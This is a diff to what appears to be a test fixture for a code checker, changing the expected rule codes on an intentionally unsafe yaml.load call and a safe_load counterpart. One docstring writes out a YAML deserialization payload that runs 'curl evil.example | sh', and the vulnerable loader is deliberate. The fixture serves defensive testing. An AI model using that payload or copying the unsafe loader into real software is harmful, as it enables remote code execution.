@@ -13,12 +13,12 @@ import yaml
 def load_layout(stream) -> dict:
     """Vulnerable: the full Loader builds any Python object a document names, so an upload containing
     ``!!python/object/apply:os.system ["curl evil.example | sh"]`` runs a command."""
-    return yaml.load(stream, Loader=yaml.Loader)  # expect: K201
+    return yaml.load(stream, Loader=yaml.Loader)  # expect: K715
 
 
 def load_layout_safe(stream) -> dict:
     """Safe: mappings, lists, strings and numbers are all a layout needs."""
-    return yaml.safe_load(stream)  # ok: K201
+    return yaml.safe_load(stream)  # ok: K201, K715
 
 
 def load_default_layout(layout_dir: str, name: str) -> dict:
